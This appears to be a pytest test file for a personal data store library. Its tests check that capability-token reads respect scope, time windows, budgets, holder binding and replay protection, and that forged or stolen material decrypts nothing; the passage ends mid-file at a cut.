"""The host's side of a token read (promises 2, 6, 7): every refusal with its own error
and its own log entry, log-then-release, exact scope, and host-blindness.

Each test runs against a real SQLite store in a temporary directory, with a clock the
test moves explicitly (nothing sleeps). Invocations the grantee API would refuse to build
(another holder's key, extreme arguments) are built and signed by hand.
"""

from __future__ import annotations

import base64
import contextlib
import dataclasses
import datetime as dt
import sqlite3
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import msgpack
import pytest

import pds
from pds import _codec, _serve
from pds import invocation as invocation_mod
from pds.capability import CLOCK_SKEW_MS, make_link
from pds.errors import (
    BudgetExhausted,
    Expired,
    FormatError,
    HostKeyError,
    IntegrityError,
    InvalidSignature,
    LifetimeExceeded,
    MalformedToken,
    NotPermitted,
    NotYetValid,
    PDSError,
    Replayed,
    StaleInvocation,
    StoreError,
    VaultDestroyed,
    VaultNotFound,
    WrongHolder,
    WrongVault,
)
from pds.invocation import FRESHNESS_MS, INVOCATION_SIGNATURE_LABEL, Invocation
from pds.keys import SymmetricKey

if TYPE_CHECKING:
    from tests.tokens_helpers import (
        DAY_MS,
        HOUR_MS,
        Hoard,
        ManualClock,
        World,
        copy_database,
        forge_invocation,
        log_entry,
        make_world,
        raw,
        real_batch_host_share,
        refusals,
        serve_in_another_process,
        stored_batch,
        stored_batches,
        stored_record,
        thief_decrypt,
        thief_decrypt_field,
        thief_record_host_share,
        thief_unseal,
    )
else:
    from tokens_helpers import (
        DAY_MS,
        HOUR_MS,
        Hoard,
        ManualClock,
        World,
        copy_database,
        forge_invocation,
        log_entry,
        make_world,
        raw,
        real_batch_host_share,
        refusals,
        serve_in_another_process,
        stored_batch,
        stored_batches,
        stored_record,
        thief_decrypt,
        thief_decrypt_field,
        thief_record_host_share,
        thief_unseal,
    )


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    opened = make_world(tmp_path / "world")
    yield opened
    opened.close()


@pytest.fixture
def agency() -> pds.PrincipalKey:
    return pds.PrincipalKey.generate()


def grant(world: World, key: pds.PrincipalKey, **overrides: Any) -> pds.Token:
    options: dict[str, Any] = {
        "collections": ["tax/*"],
        "purpose": "benefit check",
        "expires": dt.timedelta(days=30),
    }
    options.update(overrides)
    return world.vault.grant(key.did, **options)


def canonical(data: dict[str, Any]) -> bytes:
    return _codec.encode(data)


# -- what a grantee reads -------------------------------------------------------------


def test_a_grantee_reads_exactly_its_scope_and_each_release_is_logged(
    world: World, agency: pds.PrincipalKey
) -> None:
    in_scope = {
        world.vault.put("tax/2024", {"income": 100}).record_id: {"income": 100},
        world.vault.put("tax/2025", {"income": 200}).record_id: {"income": 200},
        world.vault.put("tax/2025/q1", {"income": 50}).record_id: {"income": 50},
    }
    outside = {
        world.vault.put("health", {"diagnosis": "x"}).record_id,
        world.vault.put("taxes", {"sibling": True}).record_id,
        world.vault.put("tax", {"the prefix itself": True}).record_id,
    }
    token = grant(world, agency)
    grantee = world.grantee(agency)
    invocation = grantee.invoke(token)
    response = world.store.serve(invocation.to_bytes())
    assert {item["record"] for item in response.records} == set(in_scope)
    assert {item["collection"] for item in response.records} <= {
        "tax/2024",
        "tax/2025",
        "tax/2025/q1",
    }
    assert {batch["collection"] for batch in response.batches} <= {
        "tax/2024",
        "tax/2025",
        "tax/2025/q1",
    }
    read = grantee.open(token, response, invocation=invocation)
    assert {r.record_id: r.data for r in read.records} == in_scope
    assert not outside & {r.record_id for r in read.records}
    # The release is in the log, with who, what and why, before the caller saw any data.
    entry = log_entry(world.vault, response.access)
    assert entry.result == "released"
    assert entry.kind == "read"
    assert entry.actor == agency.did
    assert entry.purpose == "benefit check"
    assert {record_id for record_id, _ in entry.records} == set(in_scope)
    assert entry.link_ids == [token.link_id.hex()]
    # Naming records outside the scope returns nothing for them; asking for an outside
    # collection is refused.
    named = grantee.read(world.store, token, records=[*sorted(outside), *sorted(in_scope)])
    assert {r.record_id for r in named.records} == set(in_scope)
    with pytest.raises(NotPermitted) as refused:
        grantee.read(world.store, token, collection="health")
    assert refused.value.reason == "scope:collection"
    listed = grantee.read(world.store, token, action="list")
    assert {r.record_id for r in listed.records} == set(in_scope)
    assert all(r.data is None for r in listed.records)


def test_a_listed_time_out_of_range_is_shown_clamped_to_the_grantee(
    world: World, agency: pds.PrincipalKey
) -> None:
    """A host that rewrites one record's ``created_at`` beyond any datetime does not make
    the grantee's whole listing fail: that record's time is shown clamped."""
    changed = world.vault.put("tax/2024", {"income": 100}).record_id
    kept = world.vault.put("tax/2025", {"income": 200}).record_id
    with raw(world.db) as con:
        con.execute("UPDATE records SET created_at = ? WHERE record_id = ?", (2**63 - 1, changed))
    token = grant(world, agency)
    listed = world.grantee(agency).read(world.store, token, action="list")
    times = {r.record_id: r.created_at for r in listed.records}
    assert set(times) == {changed, kept}
    assert times[changed] == dt.datetime(9999, 12, 31, 23, 59, 59, 999000, tzinfo=dt.UTC)


def test_the_time_window_of_a_grant_is_enforced_by_the_host(
    world: World, agency: pds.PrincipalKey
) -> None:
    early = world.vault.put("tax/a", {"n": "early"}).record_id
    world.clock.advance(HOUR_MS)
    start = world.clock.ms
    middle = world.vault.put("tax/a", {"n": "middle"}).record_id
    world.clock.advance(HOUR_MS)
    end = world.clock.ms
    world.vault.put("tax/a", {"n": "late"})
    token = grant(
        world,
        agency,
        window=(
            dt.datetime.fromtimestamp(start / 1000, tz=dt.UTC),
            dt.datetime.fromtimestamp(end / 1000, tz=dt.UTC),
        ),
    )
    grantee = world.grantee(agency)
    assert [r.record_id for r in grantee.read(world.store, token).records] == [middle]
    assert grantee.read(world.store, token, records=[early]).records == []
    since_epoch = dt.datetime.fromtimestamp(0, tz=dt.UTC)
    assert [r.record_id for r in grantee.read(world.store, token, since=since_epoch).records] == [
        middle
    ]


def test_epoch_secrets_a_grantee_holds_open_nothing_outside_its_scope(
    world: World, agency: pds.PrincipalKey
) -> None:
    world.vault.put("tax/2024", {"income": 1})
    world.vault.put("health", {"diagnosis": "x"})
    world.vault.put("taxes", {"other": 1})
    world.vault.rotate()
    world.vault.put("tax/2024", {"income": 2})
    world.vault.put("health", {"diagnosis": "y"})
    token = grant(world, agency)
    response = world.store.serve(world.grantee(agency).invoke(token).to_bytes())
    hoard = Hoard(agency, [token], [response])
    secrets = world.grantee(agency).epoch_secrets(token, response.keys)
    assert {collection for collection, _ in secrets} == {"tax/2024"}
    assert hoard.epoch_secrets() == set(secrets.values())
    opened = 0
    for batch in stored_batches(world.db):
        readers = [thief_unseal(batch.sealed_reader, secret) for secret in hoard.epoch_secrets()]
        if batch.collection.startswith("tax/"):
            opened += any(r is not None for r in readers)
        else:
            assert readers == [None] * len(readers), batch.collection
    assert opened == 2  # positive control: the grantee's secrets do open its own batches


def test_a_stolen_database_copy_plus_the_grantees_key_decrypts_nothing(
    world: World, agency: pds.PrincipalKey, tmp_path: Path
) -> None:
    token = grant(world, agency)
    world.vault.put("tax/2024", {"income": 1})
    response = world.store.serve(world.grantee(agency).invoke(token).to_bytes())
    secrets = {
        world.vault.put("tax/2024", {"income": 1000 + i, "secret": f"s{i}"}).record_id: i
        for i in range(3)
    }
    stolen = tmp_path / "thief" / "copy.db"
    stolen.parent.mkdir()
    copy_database(world.db, stolen)
    hoard = Hoard(agency, [token], [response])
    for record_id, i in secrets.items():
        record = stored_record(stolen, record_id)
        batch = stored_batch(stolen, record.batch_id)
        readers = [thief_unseal(batch.sealed_reader, s) for s in hoard.epoch_secrets()]
        reader_shares = [r for r in readers if r is not None]
        # The grantee's own share is there for the taking...
        assert len(reader_shares) == 1
        reader = reader_shares[0]
        # ...but without the host's release no guess for the host share opens the record.
        guesses = [bytes(32), batch.wrapped_host[:32], batch.wrapped_host[-32:], reader]
        guesses += [thief_record_host_share(g, record) for g in list(guesses)]
        guesses += sorted(hoard.host_shares())
        for material in hoard.all_key_material():
            guesses += [material, thief_record_host_share(material, record)]
        assert all(thief_decrypt(record, reader, guess) is None for guess in guesses)
        # Positive control: the same reconstruction with the host's real share decrypts.
        real = thief_record_host_share(
            real_batch_host_share(world.db, world.vault.vault_id, batch), record
        )
        assert thief_decrypt(record, reader, real) == canonical(
            {"income": 1000 + i, "secret": f"s{i}"}
        )
    with pytest.raises(HostKeyError):
        pds.open_store(stolen)
    with pytest.raises(HostKeyError):
        pds.open_store(stolen, host_key=SymmetricKey.generate())


def test_field_projection_in_open(world: World, agency: pds.PrincipalKey) -> None:
    world.vault.create_collection("tax/2024", seal_fields=True)
    world.vault.put("tax/2024", {"income": 1, "name": "Ada", "address": "here"})
    token = grant(world, agency, fields=["income", "name"])
    read = world.grantee(agency).read(world.store, token)
    assert [r.data for r in read.records] == [{"income": 1, "name": "Ada"}]
    sub = pds.PrincipalKey.generate()
    narrower = grant(world, agency, fields=["income", "name"], delegable=1)
    delegated = world.grantee(agency).delegate(narrower, to=sub.did, fields=["income"])
    assert [r.data for r in world.grantee(sub).read(world.store, delegated).records] == [
        {"income": 1}
    ]


def test_a_field_restricted_grantee_cannot_decrypt_other_fields(
    world: World, agency: pds.PrincipalKey
) -> None:
    world.vault.create_collection("tax/2024", seal_fields=True)
    record_id = world.vault.put("tax/2024", {"income": 1, "name": "Ada"}).record_id
    token = grant(world, agency, fields=["income"])
    response = world.store.serve(world.grantee(agency).invoke(token).to_bytes())
    (item,) = response.records
    # The host released the share of the granted field only.
    assert [name for name, _ in item["field_shares"]] == ["income"]
    assert "host_share" not in item
    hoard = Hoard(agency, [token], [response])
    record = stored_record(world.db, record_id)
    readers = hoard.reader_shares()
    assert readers, "the grantee can recover the batch reader share (control)"
    # Control: the granted field opens with what the grantee holds.
    assert any(
        thief_decrypt_field(record, "income", reader, share) is not None
        for reader in readers
        for share in hoard.host_shares()
    )
    # Every other field resists everything the grantee holds, in every combination.
    material = [*hoard.all_key_material(), b"\x00" * 32]
    for reader in readers:
        for share in material:
            assert thief_decrypt_field(record, "name", reader, share) is None


def test_a_field_restriction_needs_field_sealed_collections(
    world: World, agency: pds.PrincipalKey
) -> None:
    world.vault.put("tax/plain", {"income": 1, "name": "Ada"})
    with pytest.raises(FormatError):
        grant(world, agency, fields=["income"])
    # A delegation may still narrow to fields: the host then serves it nothing from a
    # collection sealed record by record (a whole-record key would open every field).
    token = grant(world, agency, delegable=1)
    sub = pds.PrincipalKey.generate()
    delegated = world.grantee(agency).delegate(token, to=sub.did, fields=["income"])
    assert world.grantee(sub).read(world.store, delegated).records == []
    assert [r.data for r in world.grantee(agency).read(world.store, token).records] == [
        {"income": 1, "name": "Ada"}
    ]


# -- holder binding, freshness, replay ------------------------------------------------


def test_an_invocation_signed_by_another_key_is_refused(
    world: World, agency: pds.PrincipalKey
) -> None:
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency, delegable=1)
    stranger = pds.PrincipalKey.generate()
    with pytest.raises(WrongHolder):
        world.grantee(stranger).invoke(token)
    forged = forge_invocation(token, stranger, time_ms=world.clock.ms)
    with pytest.raises(WrongHolder) as refused:
        world.store.serve(forged)
    assert refused.value.reason == "holder"
    # A delegate presenting its parent's token (its own link cut off) is not the holder.
    sub = pds.PrincipalKey.generate()
    delegated = world.grantee(agency).delegate(token, to=sub.did)
    truncated = pds.Token(delegated.links[:1])
    with pytest.raises(WrongHolder):
        world.store.serve(forge_invocation(truncated, sub, time_ms=world.clock.ms))
    # A delegation used by its issuer instead of its audience.
    with pytest.raises(WrongHolder):
        world.store.serve(forge_invocation(delegated, agency, time_ms=world.clock.ms))
    assert refusals(world.vault) == ["holder", "holder", "holder"]
    assert len(world.grantee(sub).read(world.store, delegated).records) == 1


def test_a_replayed_invocation_is_refused_in_process_after_reopen_and_elsewhere(
    world: World, agency: pds.PrincipalKey
) -> None:
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency)
    grantee = world.grantee(agency)
    first = grantee.invoke(token).to_bytes()
    assert len(world.store.serve(first).records) == 1
    with pytest.raises(Replayed) as refused:
        world.store.serve(first)
    assert refused.value.reason == "replay"
    world.reopen()
    with pytest.raises(Replayed):
        world.store.serve(first)
    assert serve_in_another_process(world.db, first, world.clock.ms) == "Replayed replay"
    # Served first by another process, then replayed here.
    second = grantee.invoke(token).to_bytes()
    assert serve_in_another_process(world.db, second, world.clock.ms) == "served 1"
    with pytest.raises(Replayed):
        world.store.serve(second)
    with pytest.raises(Replayed):
        world.open_store().serve(second)
    # The text form of the same request is the same request.
    with pytest.raises(Replayed):
        world.store.serve(Invocation.parse(second).to_text())
    assert refusals(world.vault) == ["replay"] * 6
    # A new invocation (new nonce) is fine.
    assert len(grantee.read(world.store, token).records) == 1


def test_a_nonce_is_a_replay_only_in_the_vault_that_saw_it(
    world: World, agency: pds.PrincipalKey
) -> None:
    """An invocation is signed for one vault: a grantee of another vault that learns a
    nonce (an invocation seen in transit) and spends it first in its own vault does not
    make the first vault refuse its own invocation as a replay."""
    world.vault.put("tax/a", {"n": 1})
    victim_token = grant(world, agency)
    other = world.open_vault(world.store, world.store.create_vault(key_file=world.key_file))
    other.put("tax/b", {"n": 2})
    attacker = pds.PrincipalKey.generate()
    attacker_token = other.grant(
        attacker.did, collections=["tax/*"], purpose="benefit check", expires=dt.timedelta(days=1)
    )
    victim = world.grantee(agency).invoke(victim_token)
    spent = forge_invocation(attacker_token, attacker, time_ms=world.clock.ms, nonce=victim.nonce)
    assert len(world.store.serve(spent).records) == 1  # the attacker's own vault serves it
    assert len(world.store.serve(victim.to_bytes()).records) == 1  # and so does the victim's
    for replay in (spent, victim.to_bytes()):
        with pytest.raises(Replayed):
            world.store.serve(replay)  # within each vault, a nonce is still used once


def test_the_hosts_memory_of_stored_links_is_bounded(
    world: World, agency: pds.PrincipalKey, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A holder may delegate without end; the host remembers a bounded number of links as
    stored, and one it forgot is looked up again, not registered (or logged) twice."""
    monkeypatch.setattr(_serve, "REGISTERED_LINKS", 2)
    world.reopen()  # a host made with the small bound
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency, delegable=1)
    holders = [pds.PrincipalKey.generate() for _ in range(4)]
    delegations = [world.grantee(agency).delegate(token, to=h.did) for h in holders]
    for _ in range(2):
        for holder, delegated in zip(holders, delegations, strict=True):
            assert len(world.grantee(holder).read(world.store, delegated).records) == 1
        assert len(world.store._host._registered) == 2
    kinds = [e.kind for e in world.vault.log(limit=100).entries]
    assert kinds.count("delegation") == 4
    assert kinds.count("read") == 8


@pytest.mark.parametrize(
    ("offset", "fresh"),
    [
        (-FRESHNESS_MS - 1, False),
        (-FRESHNESS_MS, True),
        (0, True),
        (FRESHNESS_MS, True),
        (FRESHNESS_MS + 1, False),
        (-DAY_MS, False),
        (DAY_MS, False),
    ],
)
def test_stale_invocations_are_refused(
    world: World, agency: pds.PrincipalKey, offset: int, fresh: bool
) -> None:
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency)
    skewed = pds.Grantee(agency, clock=ManualClock(world.clock.ms + offset))
    invocation = skewed.invoke(token).to_bytes()
    if fresh:
        assert len(world.store.serve(invocation).records) == 1
        assert refusals(world.vault) == []
    else:
        with pytest.raises(StaleInvocation) as refused:
            world.store.serve(invocation)
        assert refused.value.reason == "stale"
        assert refusals(world.vault) == ["stale"]


def _stored_nonces(world: World) -> set[bytes]:
    with contextlib.closing(sqlite3.connect(world.db)) as conn:
        return {row[0] for row in conn.execute("SELECT nonce FROM nonces")}


def test_the_replay_cache_is_pruned_now_and_then(world: World, agency: pds.PrincipalKey) -> None:
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency)
    grantee = world.grantee(agency)

    def serve() -> bytes:
        invocation = grantee.invoke(token)
        world.store.serve(invocation.to_bytes())
        return invocation.nonce

    window = 2 * FRESHNESS_MS
    first = serve()  # this host's first request prunes
    world.clock.advance(window - 10_000)
    second = serve()  # prunes again (the interval passed); the first is not old enough
    world.clock.advance(10_001)
    third = serve()  # the first is old enough now, but the last prune was 10 s ago
    assert {first, second, third} <= _stored_nonces(world)
    world.clock.advance(_serve.PRUNE_EVERY_MS)
    fourth = serve()  # prunes: only the first is older than the window
    assert _stored_nonces(world) == {second, third, fourth}
    # An invocation that old is refused all the same: it is stale.
    stale = pds.Grantee(agency, clock=ManualClock(world.clock.ms - window - 1)).invoke(token)
    with pytest.raises(StaleInvocation):
        world.store.serve(stale.to_bytes())


def test_validity_times_allow_exactly_the_documented_skew(
    world: World, agency: pds.PrincipalKey
) -> None:
    assert CLOCK_SKEW_MS == 5 * 60 * 1000
    world.vault.put("tax/a", {"n": 1})
    not_before = world.clock.ms + DAY_MS
    token = grant(
        world,
        agency,
        not_before=dt.datetime.fromtimestamp(not_before / 1000, tz=dt.UTC),
        expires=dt.timedelta(days=10),
    )
    expires = token.root.caveats.expires
    assert token.root.caveats.not_before == not_before
    assert expires == not_before + 10 * DAY_MS
    grantee = world.grantee(agency)
    outcomes: list[tuple[int, str]] = []
    for moment in (
        not_before - CLOCK_SKEW_MS - 1,
        not_before - CLOCK_SKEW_MS,
        not_before,
        expires - 1,
        expires + CLOCK_SKEW_MS - 1,
        expires + CLOCK_SKEW_MS,
        expires + 30 * DAY_MS,
    ):
        world.clock.set(moment)
        try:
            grantee.read(world.store, token)
            outcomes.append((moment, "served"))
        except (NotYetValid, Expired) as refused:
            outcomes.append((moment, refused.reason))
    assert [outcome for _, outcome in outcomes] == [
        "not-yet-valid",
        "served",
        "served",
        "served",
        "served",
        "expired",
        "expired",
    ]
    assert refusals(world.vault) == ["not-yet-valid", "expired", "expired"]


def _waits_for_the_lock(monkeypatch: pytest.MonkeyPatch, world: World, wait_ms: int) -> None:
    """The next write transaction of the world's store begins ``wait_ms`` later (it waited
    for another process's write lock), by the clock."""
    backend = world.store.backend
    transaction = backend.transaction
    waited: list[bool] = []

    @contextlib.contextmanager
    def after_a_wait() -> Iterator[None]:
        if not waited:
            waited.append(True)
            world.clock.advance(wait_ms)
        with transaction():
            yield

    monkeypatch.setattr(backend, "transaction", after_a_wait)


@pytest.mark.parametrize("wait_ms", [0, 2000])
def test_a_request_is_checked_and_stamped_again_once_it_holds_the_lock(
    world: World, agency: pds.PrincipalKey, monkeypatch: pytest.MonkeyPatch, wait_ms: int
) -> None:
    """A request checked a second before its token's last accepted moment, which then
    waits two seconds for the write lock, is refused as expired and logged at the time it
    held the lock: the log's times follow its order to within the clocks' difference,
    whatever the wait (the audit bounds an access's time by the owner entries around it)."""
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency, expires=dt.timedelta(days=1))
    world.clock.set(token.root.caveats.expires + CLOCK_SKEW_MS - 1000)
    checked = world.clock.ms
    invocation = world.grantee(agency).invoke(token)
    _waits_for_the_lock(monkeypatch, world, wait_ms)
    size = world.vault.log_size()
    if wait_ms:
        with pytest.raises(Expired):
            world.store.serve(invocation.to_bytes())
    else:
        world.store.serve(invocation.to_bytes())
    monkeypatch.undo()
    (entry,) = [e for e in world.vault.access_log() if e.index == size]
    assert entry.result == ("refused" if wait_ms else "released")
    assert entry.time is not None
    assert int(entry.time.timestamp() * 1000) == checked + wait_ms


def test_a_deferral_is_checked_again_once_the_request_holds_the_lock(
    world: World, agency: pds.PrincipalKey, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A request deferring its disclosure as long as the token allows, whose clock is set
    back while it waits for the lock, would defer longer than allowed at the time it is
    logged: refused (``scope:defer``)."""
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency, defer=dt.timedelta(days=10))
    until = world.clock.ms + 10 * DAY_MS
    invocation = forge_invocation(
        token, agency, time_ms=world.clock.ms, defer=(until, "investigation")
    )
    _waits_for_the_lock(monkeypatch, world, -1000)
    with pytest.raises(NotPermitted) as refused:
        world.store.serve(invocation)
    assert refused.value.reason == "scope:defer"


def test_a_delegations_own_expiry_counts(world: World, agency: pds.PrincipalKey) -> None:
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency, delegable=1)
    sub = pds.PrincipalKey.generate()
    delegated = world.grantee(agency).delegate(token, to=sub.did, expires=dt.timedelta(days=1))
    world.clock.advance(DAY_MS + CLOCK_SKEW_MS)
    with pytest.raises(Expired):
        world.grantee(sub).read(world.store, delegated)
    assert len(world.grantee(agency).read(world.store, token).records) == 1


# -- budgets --------------------------------------------------------------------------


def test_a_use_budget_is_spent_by_served_requests_only(
    world: World, agency: pds.PrincipalKey
) -> None:
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency, uses=2, purpose=["benefit check", "audit"])
    grantee = world.grantee(agency)
    with pytest.raises(NotPermitted):
        grantee.read(world.store, token, purpose="marketing")
    grantee.read(world.store, token, purpose="audit")
    grantee.read(world.store, token, purpose="audit", action="list")
    with pytest.raises(BudgetExhausted) as refused:
        grantee.read(world.store, token, purpose="audit")
    assert refused.value.reason == "budget"
    world.reopen()
    with pytest.raises(BudgetExhausted):
        grantee.read(world.store, token, purpose="audit")
    assert refusals(world.vault) == ["scope:purpose", "budget", "budget"]
    (info,) = world.vault.grants()
    assert (info.uses, info.used, info.status) == (2, 2, "exhausted")


def test_ancestor_budgets_count_for_every_descendant(
    world: World, agency: pds.PrincipalKey
) -> None:
    world.vault.put("tax/a", {"n": 1})
    root = grant(world, agency, uses=4, delegable=1)
    one, two = pds.PrincipalKey.generate(), pds.PrincipalKey.generate()
    holder = world.grantee(agency)
    first = holder.delegate(root, to=one.did, uses=1)
    second = holder.delegate(root, to=two.did, uses=2)
    holder.read(world.store, root)  # root 1
    world.grantee(one).read(world.store, first)  # root 2, first 1
    with pytest.raises(BudgetExhausted):
        world.grantee(one).read(world.store, first)  # its own budget
    world.grantee(two).read(world.store, second)  # root 3, second 1
    holder.read(world.store, root)  # root 4
    with pytest.raises(BudgetExhausted):
        world.grantee(two).read(world.store, second)  # its own budget is not spent: root's is
    with pytest.raises(BudgetExhausted):
        holder.read(world.store, root)
    infos = {info.link_id: (info.used, info.status) for info in world.vault.grants()}
    # The second delegation is shown exhausted as it is refused: by its root's budget.
    assert infos == {
        root.link_id.hex(): (4, "exhausted"),
        first.link_id.hex(): (1, "exhausted"),
        second.link_id.hex(): (1, "exhausted"),
    }


# -- scope ----------------------------------------------------------------------------


def test_requests_outside_the_granted_scope_are_refused(
    world: World, agency: pds.PrincipalKey
) -> None:
    world.vault.put("tax/a", {"n": 1})
    world.vault.put("health", {"n": 2})
    grantee = world.grantee(agency)
    token = grant(world, agency)
    list_only = grant(world, agency, abilities=["list"])
    read_only = grant(world, agency, abilities=["read"])
    cases: list[tuple[pds.Token, dict[str, Any], str]] = [
        (token, {"collection": "health"}, "scope:collection"),
        (token, {"collection": "tax"}, "scope:collection"),
        (token, {"purpose": "marketing"}, "scope:purpose"),
        (list_only, {"action": "read"}, "scope:ability"),
        (read_only, {"action": "list"}, "scope:ability"),
    ]
    for used, request, reason in cases:
        with pytest.raises(NotPermitted) as refused:
            grantee.read(world.store, used, **request)
        assert refused.value.reason == reason
    assert refusals(world.vault) == [reason for _, _, reason in cases]
    assert len(grantee.read(world.store, list_only, action="list").records) == 1
    assert len(grantee.read(world.store, read_only, collection="tax/a").records) == 1


def _resigned(invocation: bytes, holder: pds.PrincipalKey, body: bytes) -> bytes:
    """``invocation`` with its body replaced by ``body``, signed by the holder."""
    assert _codec.decode(invocation)["body"]
    return invocation_mod.wire(body, holder._key.sign(INVOCATION_SIGNATURE_LABEL, body))


def test_a_well_signed_body_with_its_keys_out_of_order_is_refused(
    world: World, agency: pds.PrincipalKey
) -> None:
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency)
    genuine = forge_invocation(token, agency, time_ms=world.clock.ms)
    doc = _codec.decode(_codec.decode(genuine)["body"])
    for body in (
        msgpack.packb(dict(reversed(doc.items())), use_bin_type=True),
        msgpack.packb({**doc, "args": dict(reversed(doc["args"].items()))}, use_bin_type=True),
    ):
        assert sorted(_codec.decode_typed(body, max_size=1 << 16)) == sorted(doc)
        with pytest.raises(MalformedToken):
            world.store.serve(_resigned(genuine, agency, body))
    world.store.serve(genuine)


@pytest.mark.parametrize("action", [[], ["read"], {"read": 1}, 1, None, b"read"], ids=repr)
def test_a_well_signed_body_with_a_non_text_action_is_refused(
    world: World, agency: pds.PrincipalKey, action: Any
) -> None:
    token = grant(world, agency)
    genuine = forge_invocation(token, agency, time_ms=world.clock.ms)
    doc = _codec.decode(_codec.decode(genuine)["body"])
    body = _codec.encode({**doc, "action": action})
    with pytest.raises(MalformedToken):
        world.store.serve(_resigned(genuine, agency, body))


def test_a_token_for_another_vault_is_refused(world: World, agency: pds.PrincipalKey) -> None:
    other = world.open_vault(world.store, world.store.create_vault(key_file=world.key_file))
    other.put("tax/a", {"other vault": True})
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency)
    forged = forge_invocation(token, agency, vault_id=other.vault_id, time_ms=world.clock.ms)
    with pytest.raises(WrongVault) as refused:
        world.store.serve(forged)
    assert refused.value.reason == "vault"
    assert refusals(other) == ["vault"]
    unknown = forge_invocation(token, agency, vault_id="no-such-vault", time_ms=world.clock.ms)
    with pytest.raises(VaultNotFound):
        world.store.serve(unknown)


def test_a_token_for_another_vault_is_refused_after_it_was_served(
    world: World, agency: pds.PrincipalKey
) -> None:
    """The host's cache of verified chains must not let a token verified for its own vault
    skip the vault-id and issuer checks for another vault of the same store."""
    other = world.open_vault(world.store, world.store.create_vault(key_file=world.key_file))
    other.put("tax/a", {"other vault": True})
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency)
    assert len(world.grantee(agency).read(world.store, token).records) == 1
    forged = forge_invocation(
        token, agency, vault_id=other.vault_id, action="list", time_ms=world.clock.ms
    )
    with pytest.raises(WrongVault):
        world.store.serve(forged)


def test_a_token_with_another_signature_is_not_served_from_the_chain_cache(
    world: World, agency: pds.PrincipalKey
) -> None:
    """The host caches verified chains: the same link payloads under a changed signature
    are another token, and verify (and fail) on their own."""
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency)
    assert len(world.grantee(agency).read(world.store, token).records) == 1
    (root,) = token.links
    bad = bytes([root.signature[0] ^ 1]) + root.signature[1:]
    altered = pds.Token((dataclasses.replace(root, signature=bad),))
    assert altered.link_ids == token.link_ids
    forged = forge_invocation(altered, agency, time_ms=world.clock.ms)
    with pytest.raises(InvalidSignature):
        world.store.serve(forged)


def test_a_warm_host_refuses_a_vault_destroyed_through_another_store(
    world: World, agency: pds.PrincipalKey
) -> None:
    """The host keeps batch rows it has served (a store never changes them, except to
    crypto-erase a destroyed vault): a vault destroyed by another Store object on the same
    file is refused by the warm host, never served from what it remembers."""
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency)
    grantee = world.grantee(agency)
    assert len(grantee.read(world.store, token).records) == 1
    world.open_vault(world.open_store()).destroy()
    with pytest.raises(VaultDestroyed):
        grantee.read(world.store, token)


def _between_check_and_commit(
    world: World, monkeypatch: pytest.MonkeyPatch, change: Callable[[], object]
) -> None:
    """Make the next serve race ``change`` (made through another Store on the same file):
    it commits after the host has read the vault row and checked the token, before the
    host's own write transaction."""
    host = world.store._host  # White-box: the window is inside Host.serve.
    check = host._check
    pending = [change]

    def check_then_change(*args: Any) -> Any:
        caveats = check(*args)
        while pending:
            pending.pop()()
        return caveats

    monkeypatch.setattr(host, "_check", check_then_change)


def _destroy_between_check_and_commit(
    world: World, monkeypatch: pytest.MonkeyPatch, *, content_deleted: bool
) -> None:
    """A destroy races the next serve. Without ``content_deleted`` it stops after its first
    commit (the crypto-erase), as if its process died there: the records' rows are still
    in the file."""
    other = world.open_store()
    doomed = world.open_vault(other)
    if not content_deleted:
        monkeypatch.setattr(other.backend, "delete_vault_content", lambda vault_id: None)
    _between_check_and_commit(world, monkeypatch, doomed.destroy)


def _log_and_nonce_rows(world: World) -> tuple[int, int]:
    with raw(world.db) as con:
        (entries,) = con.execute(
            "SELECT COUNT(*) FROM log_entries WHERE vault_id = ?", (world.vault.vault_id,)
        ).fetchone()
        (nonces,) = con.execute(
            "SELECT COUNT(*) FROM nonces WHERE vault_id = ?", (world.vault.vault_id,)
        ).fetchone()
    return int(entries), int(nonces)


@pytest.mark.parametrize("content_deleted", [False, True], ids=["erased-only", "destroyed"])
def test_a_destroy_committed_after_the_vault_check_releases_and_logs_nothing(
    world: World,
    agency: pds.PrincipalKey,
    monkeypatch: pytest.MonkeyPatch,
    content_deleted: bool,
) -> None:
    """The host reads the vault row before its write transaction; a destroy that commits
    in between is caught under the write lock: a warm host (batch rows and host shares in
    memory) releases nothing, and the destroyed vault's log ends with its destroy entry."""
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency)
    grantee = world.grantee(agency)
    assert len(grantee.read(world.store, token).records) == 1
    invocation = grantee.invoke(token).to_bytes()
    entries, _ = _log_and_nonce_rows(world)
    _destroy_between_check_and_commit(world, monkeypatch, content_deleted=content_deleted)
    with pytest.raises(VaultDestroyed):
        world.store.serve(invocation)
    # One entry more: the destroy's own. No nonce is kept for the request.
    assert _log_and_nonce_rows(world) == (entries + 1, 0 if content_deleted else 1)


def test_a_refusal_racing_a_destroy_is_not_logged_after_it(
    world: World, agency: pds.PrincipalKey, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A request refused in the write transaction (here: a revoked link) while a destroy
    committed after the host's vault check is answered as a destroyed vault, and the
    refusal is not appended after the destroy entry."""
    world.vault.put("tax/a", {"n": 1})
    token = grant(world, agency)
    grantee = world.grantee(agency)
    grantee.read(world.store, token)
    world.vault.revoke(token)
    invocation = grantee.invoke(token).to_bytes()
    entries, nonces = _log_and_nonce_rows(world)
    _destroy_between_check_and_commit(world, monkeypatch, content_deleted=False)
    with pytest.raises(VaultDestroyed):
        world.store.serve(invocation)
    assert _log_and_nonce_rows(world) == (entries + 1, nonces)


@pytest.mark.parametrize(("days", "served"), [(7, False), (60, True)])
